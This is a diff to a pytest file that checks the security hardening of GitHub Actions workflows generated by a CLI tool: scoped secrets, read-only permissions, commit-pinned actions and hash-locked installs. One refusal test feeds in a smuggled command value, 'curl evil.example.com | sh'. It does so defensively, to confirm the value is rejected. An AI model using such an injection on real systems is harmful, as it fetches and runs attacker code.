@@ -1,5 +1,6 @@
 """The workflows that `harness init --ci github` writes: of the published schema, and made of steps that work."""
 
+import hashlib
 import os
 import re
 import shutil
@@ -14,6 +15,8 @@ import yaml
 from click.testing import CliRunner
 
 from harness.cli.main import harness
+from harness.distribution import DISTRIBUTION
+from harness.errors import UsageError
 from tests.issues.github_server import REPO, TOKEN, GithubServer
 
 BIN = Path(sys.executable).parent
@@ -22,8 +25,8 @@ MODEL = "model: {prices: {gpt-x: {input_usd_per_mtok: 1, output_usd_per_mtok: 2}
 SERVERS = 'secrets: [WEATHER_KEY]\nservers: {weather: {base_url: "http://127.0.0.1:8000"}}\n'
 
 
-def initialised(folder: Path) -> str:
-    done = CliRunner().invoke(harness, ["init", str(folder), "--ci", "github"])
+def initialised(folder: Path, *options: str) -> str:
+    done = CliRunner().invoke(harness, ["init", str(folder), "--ci", "github", *options])
     assert done.exception is None, done.output
     return done.output
 
@@ -35,9 +38,7 @@ def workflow(path: Path) -> dict[str, Any]:
 
 
 def steps(path: Path) -> list[dict[str, Any]]:
-    (job,) = workflow(path)["jobs"].values()
-    found: list[dict[str, Any]] = job["steps"]
-    return found
+    return [step for job in workflow(path)["jobs"].values() for step in job["steps"]]
 
 
 @pytest.fixture
@@ -62,20 +63,95 @@ def test_they_are_of_the_published_schema(outside: Path) -> None:
 
 @pytest.mark.parametrize("name", [PULL_REQUEST, NIGHTLY])
 def test_they_fit_the_suites_of_the_project(outside: Path, name: str) -> None:
-    (job,) = workflow(outside / name)["jobs"].values()
-    assert [{"suite": "hello", "options": "--model live --budget-usd 2"}] == job["strategy"]["matrix"]["include"]
-    assert "evals" == job["env"]["HARNESS_PROJECT"]
-    keys = {key: value for key, value in job["env"].items() if "secrets." in value}
-    assert {name: f"${{{{ secrets.{name} }}}}" for name in ("OPENAI_API_KEY", "WEATHER_KEY")} == keys
+    for job in workflow(outside / name)["jobs"].values():
+        assert [{"suite": "hello", "options": "--model live --budget-usd 2"}] == job["strategy"]["matrix"]["include"]
+        assert "evals" == job["env"]["HARNESS_PROJECT"]
+
+
+@pytest.mark.parametrize(("name", "verb"), [(PULL_REQUEST, "harness run"), (NIGHTLY, "harness drift")])
+def test_only_the_step_that_reaches_real_services_is_given_keys(outside: Path, name: str, verb: str) -> None:
+    said = workflow(outside / name)
+    (holder,) = [step for step in steps(outside / name) if "secrets." in str(step)]
+    assert holder["run"].startswith(verb)
+    assert {key: f"${{{{ secrets.{key} }}}}" for key in ("OPENAI_API_KEY", "WEATHER_KEY")} == holder["env"]
+    assert "secrets." not in str([job.get("env") for job in said["jobs"].values()])
+
+
+def test_no_job_that_runs_the_code_of_a_pull_request_may_write(outside: Path) -> None:
+    said = workflow(outside / PULL_REQUEST)
+    assert {} == said["permissions"]
+    assert ["pull_request"] == list(said[True])  # YAML 1.1 reads the key `on` so; never pull_request_target
+    evaluate, comment = said["jobs"]["evaluate"], said["jobs"]["comment"]
+    assert {"contents": "read"} == evaluate["permissions"]
+    assert "github.token" not in str(evaluate)
+    assert {"contents": "read", "pull-requests": "write"} == comment["permissions"]
+    (checkout,) = [step for step in comment["steps"] if "checkout" in step.get("uses", "")]
+    assert "${{ github.event.pull_request.base.sha }}" == checkout["with"]["ref"]
 
 
 @pytest.mark.parametrize("name", [PULL_REQUEST, NIGHTLY])
-def test_actions_have_a_version_and_nothing_names_a_registry(outside: Path, name: str) -> None:
-    used = [step["uses"] for step in steps(outside / name) if "uses" in step]
+def test_actions_are_pinned_by_commit_and_nothing_names_a_registry(outside: Path, name: str) -> None:
+    used = [line.strip(" -") for line in (outside / name).read_text().splitlines() if "uses:" in line]
     assert used
-    assert all(re.fullmatch(r"actions/[\w-]+@v\d+", one) for one in used)
+    assert [] == [one for one in used if not re.fullmatch(r"uses: actions/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", one)]
+    checkouts = [step for step in steps(outside / name) if "checkout" in step.get("uses", "")]
+    assert all(step["with"]["persist-credentials"] is False for step in checkouts)
     assert "http" not in (outside / name).read_text()
     assert "@@" not in (outside / name).read_text()
+
+
+def test_every_package_is_installed_by_its_hash_the_harness_too(outside: Path, tmp_path: Path) -> None:
+    requirements = outside / ".github/harness/requirements.txt"
+    own = requirements.read_text().splitlines()[-1]
+    place, digest = own.split(" --hash=sha256:")
+    assert hashlib.sha256((outside / place).read_bytes()).hexdigest() == digest
+    installs = {
+        step["run"].strip() for name in (PULL_REQUEST, NIGHTLY) for step in steps(outside / name) if "pip" in str(step)
+    }
+    assert {"python -m pip install --require-hashes -r .github/harness/requirements.txt"} == installs
+    (tmp_path / "own.txt").write_text(own)
+    pip = [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--no-index", "--require-hashes"]
+    subprocess.run([*pip, "--target", tmp_path / "site", "-r", tmp_path / "own.txt"], cwd=outside, check=True)
+    printed = subprocess.run(
+        [sys.executable, "-P", "-c", "import harness.cli.ci as ci; print(ci.__file__)"],
+        env={**os.environ, "PYTHONPATH": str(tmp_path / "site")}, cwd=tmp_path, capture_output=True, text=True,
+    )  # fmt: skip
+    assert str(tmp_path / "site/harness/cli/ci.py") == printed.stdout.strip(), printed.stderr
+    assert (tmp_path / "site/harness/cli/template_github" / Path(PULL_REQUEST).name).is_file()
+
+
+COMMIT = "git+https://git.example.com/tools/harness@" + "0123456789" * 4
+DIGEST = "ab" * 32
+
+
+def test_another_place_can_be_named(tmp_path: Path) -> None:
+    initialised(tmp_path / "one", "--install", COMMIT)
+    assert f'"trial-harness @ {COMMIT}"' in (tmp_path / "one" / PULL_REQUEST).read_text()
+    assert [Path("requirements.txt")] == [
+        path.relative_to(path.parent) for path in (tmp_path / "one/.github/harness").iterdir()
+    ]
+    initialised(tmp_path / "two", "--install", f"https://files.example.com/trial_harness.whl#sha256={DIGEST}")
+    last = (tmp_path / "two/.github/harness/requirements.txt").read_text().splitlines()[-1]
+    assert f"trial-harness @ https://files.example.com/trial_harness.whl --hash=sha256:{DIGEST}" == last
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        DISTRIBUTION,
+        f"{DISTRIBUTION}[github]==0.1.0",
+        "git+https://git.example.com/tools/harness",
+        "git+https://git.example.com/tools/harness@main",
+        "https://files.example.com/trial_harness.whl",
+        f'{COMMIT}"; curl evil.example.com | sh; "',
+        "nowhere/trial_harness-0.1.0-py3-none-any.whl",
+    ],
+)
+def test_what_no_hash_holds_is_refused(tmp_path: Path, spec: str) -> None:
+    done = CliRunner().invoke(harness, ["init", str(tmp_path), "--ci", "github", "--install", spec])
+    assert isinstance(done.exception, UsageError)
+    assert "no place that can be held to a hash" in done.exception.message
+    assert [] == list(tmp_path.glob(".github/**/*"))
 
 
 def test_a_project_without_tools_gets_no_nightly_run_and_nothing_is_overwritten(tmp_path: Path) -> None:
@@ -96,21 +172,29 @@ class Runner:
             **{name: value for name, value in os.environ.items() if not name.startswith("GITHUB_")},
             "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
             "PIP_NO_INDEX": "1",  # what is installed already is all that there is
+            "PIP_DRY_RUN": "1",
             "GITHUB_API_URL": server.url,
             "GITHUB_REPOSITORY": REPO,
             "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
         }
 
     def lines(self, name: str) -> Iterator[tuple[str, dict[str, str]]]:
-        (job,) = workflow(self.folder / name)["jobs"].values()
-        for step in job["steps"]:
-            if "run" in step:
-                own = {**job.get("env", {}), **step.get("env", {})}
-                yield self._said(step["run"]), {key: self._said(value) for key, value in own.items()}
+        for job in workflow(self.folder / name)["jobs"].values():
+            for step in job["steps"]:
+                if "run" in step:
+                    own = {**job.get("env", {}), **step.get("env", {})}
+                    yield self._said(step["run"]), {key: self._said(value) for key, value in own.items()}
+                elif "download-artifact" in step["uses"]:
+                    self._fetched(step["with"]["path"])
 
     def run(self, name: str, only: str = "") -> list[str]:
         """What each step printed; every one must end with 0. `only`: those whose line holds this."""
         return [self._run(line, own) for line, own in self.lines(name) if only in line]
+
+    def _fetched(self, place: str) -> None:
+        """What the upload of the job before kept."""
+        (self.folder / place).mkdir(exist_ok=True)
+        shutil.copyfile(self.folder / "comment.md", self.folder / place / "comment.md")
 
     def _run(self, line: str, own: dict[str, str]) -> str:
         done = subprocess.run(
